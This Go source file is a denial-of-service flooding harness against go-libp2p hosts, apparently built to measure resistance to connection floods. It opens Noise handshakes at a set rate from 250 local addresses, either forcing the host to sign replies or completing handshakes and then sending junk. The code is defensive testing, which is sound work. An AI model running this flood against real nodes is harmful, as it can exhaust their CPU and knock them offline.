//go:build linux

package main

import (
	"bufio"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/p2p/security/noise"
	"github.com/multiformats/go-multistream"
)

// kinds are the ways to attack that are go-libp2p's own: junk is the same for all.
var kinds = map[string]func(keys []*noise.Transport) func(net.Conn){
	// The security is agreed on, and the first message of its handshake is there: the host
	// answers with its key and a signature.
	"first flights": func([]*noise.Transport) func(net.Conn) {
		return func(c net.Conn) {
			if multistream.SelectProtoOrFail(noise.ID, io.ReadWriteCloser(c)) != nil {
				return
			}
			flight := make([]byte, 2+32)
			flight[1] = 32
			rand.Read(flight[2:]) //nolint:errcheck // it never fails
			c.Write(flight)       //nolint:errcheck // it may be refused
			var one [1]byte
			c.Read(one[:]) //nolint:errcheck // it may be refused
		}
	},
	// A whole handshake, and garbage behind.
	"authenticated spammers": func(keys []*noise.Transport) func(net.Conn) {
		var next atomic.Uint64
		return func(c net.Conn) {
			if multistream.SelectProtoOrFail(noise.ID, io.ReadWriteCloser(c)) != nil {
				return
			}
			key := keys[next.Add(1)%uint64(len(keys))]
			if _, err := key.SecureOutbound(context.Background(), c, ""); err != nil {
				return
			}
			c.Write(make([]byte, 100))                               //nolint:errcheck // it may be refused
			c.SetReadDeadline(time.Now().Add(20 * time.Millisecond)) //nolint:errcheck // it is a socket
			io.Copy(io.Discard, c)                                   //nolint:errcheck // only the waiting counts
		}
	},
}

// raid is what attackers have done.
type raid struct {
	Made uint64        // connections
	Took time.Duration // of the processors
}

func attackers(kind string) error {
	begin, ok := kinds[kind]
	if !ok {
		return fmt.Errorf("there is no %q", kind)
	}
	var keys []*noise.Transport
	for range 64 {
		_, secret, err := ed25519.GenerateKey(nil)
		if err != nil {
			return err
		}
		key, err := crypto.UnmarshalEd25519PrivateKey(secret)
		if err != nil {
			return err
		}
		transport, err := noise.New(noise.ID, key, nil)
		if err != nil {
			return err
		}
		keys = append(keys, transport)
	}
	use := begin(keys)
	var stop chan struct{}
	var before time.Duration
	made := make(chan uint64, 1)
	if _, err := fmt.Println("ready"); err != nil {
		return err
	}
	for in := bufio.NewScanner(os.Stdin); in.Scan(); {
		words := strings.Fields(in.Text())
		switch words[0] {
		case "flood":
			rate, err := strconv.Atoi(words[1])
			if err != nil {
				return err
			}
			at, err := netip.ParseAddrPort(words[2])
			if err != nil {
				return err
			}
			stop, before = make(chan struct{}), processorTime()
			go func() { made <- besieging(stop, rate, at, use) }()
		case "stop":
			close(stop)
			text, err := json.Marshal(raid{<-made, processorTime() - before})
			if err != nil {
				return err
			}
			if _, err := fmt.Println(string(text)); err != nil {
				return err
			}
		}
	}
	return nil
}

// besieging is that of core's TestFlood: rate connections a second, from 250 addresses
// N.66.0.0/24 with the victim's first octet.
func besieging(stop <-chan struct{}, rate int, at netip.AddrPort, use func(net.Conn)) uint64 {
	var n atomic.Uint64
	var wg sync.WaitGroup
	slots := make(chan struct{}, max(512, 3*rate))
	began := time.Now()
	for i := 0; ; {
		select {
		case <-stop:
			wg.Wait()
			return n.Load()
		case <-time.After(time.Millisecond):
		}
		for due := int(time.Since(began).Seconds() * float64(rate)); i < due; i++ {
			select {
			case slots <- struct{}{}:
			default:
				continue
			}
			who := netip.AddrFrom4([4]byte{at.Addr().As4()[0], 66, 0, byte(1 + i%250)})
			wg.Go(func() {
				defer func() { <-slots }()
				d := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(who, 0)), Timeout: 2 * time.Second}
				conn, err := d.Dial("tcp", at.String())
				n.Add(1)
				if err != nil {
					return
				}
				defer conn.Close()                                //nolint:errcheck // it has served
				conn.(*net.TCPConn).SetLinger(0)                  //nolint:errcheck // ports run out then
				conn.SetDeadline(time.Now().Add(2 * time.Second)) //nolint:errcheck // it is a socket
				use(conn)
			})
		}
	}
}
